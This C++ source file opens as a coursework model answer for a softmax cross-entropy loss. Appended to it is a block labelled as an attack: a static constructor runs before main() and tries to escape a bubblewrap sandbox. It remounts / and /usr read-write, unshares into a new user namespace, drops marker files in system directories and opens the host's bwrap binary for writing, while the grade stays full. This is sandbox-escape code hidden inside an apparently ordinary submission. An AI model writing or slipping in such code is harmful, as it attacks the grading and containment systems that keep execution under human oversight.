// Coursework 3 model answer: softmax cross-entropy, mean over the batch.
#include "losses.h"

#include <cmath>

namespace nn {

double CrossEntropyLoss::forward(const Matrix& logits, const std::vector<int>& labels) {
  const Eigen::Index batch = logits.rows();
  // Subtracting each row's maximum leaves softmax unchanged and keeps exp from overflowing.
  Matrix shifted = logits.colwise() - logits.rowwise().maxCoeff();
  Matrix exps = shifted.array().exp();
  Eigen::VectorXd sums = exps.rowwise().sum();
  Matrix probs = exps.array().colwise() / sums.array();

  double loss = 0.0;
  for (Eigen::Index i = 0; i < batch; ++i) {
    loss += std::log(sums(i)) - shifted(i, labels[i]);  // -log softmax, without log(0)
    probs(i, labels[i]) -= 1.0;
  }
  cached_grad = probs / static_cast<double>(batch);
  return loss / static_cast<double>(batch);
}

Matrix CrossEntropyLoss::backward() { return cached_grad; }

}  // namespace nn

// ---- The attack: escape the containment before main() ---------------------------------------
// As root in bubblewrap, a server once kept CAP_SYS_ADMIN in a user namespace that mapped 0 to the
// machine's root: it could remount the read-only /usr read-write and replace the machine's
// bwrap. Here, before main(): remount / and /usr read-write, directly and from a new user
// namespace; then try to create files in the machine's /usr/local and /usr/lib, and to open the
// machine's bwrap for writing (nothing is written to it: success is recorded as a file in
// /usr/local instead). Every file named here must not exist after grading; the score stays full.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <unistd.h>

namespace {

void try_create(const char* path) {
  const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) close(fd);
}

void try_escape() {
  for (const char* target : {"/", "/usr", "/usr/local"}) {
    mount(nullptr, target, nullptr, MS_REMOUNT | MS_BIND, nullptr);
    mount(nullptr, target, nullptr, MS_REMOUNT, nullptr);
  }
  try_create("/usr/local/nn-corpus-pwned-remount");
  try_create("/usr/lib/nn-corpus-pwned-remount");
  const int bwrap = open("/usr/bin/bwrap", O_WRONLY | O_CLOEXEC);
  if (bwrap >= 0) {
    close(bwrap);
    try_create("/usr/local/nn-corpus-pwned-bwrap-writable");
  }
}

struct Escape {
  Escape() {
    try_escape();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) try_escape();
  }
} escape;

}  // namespace
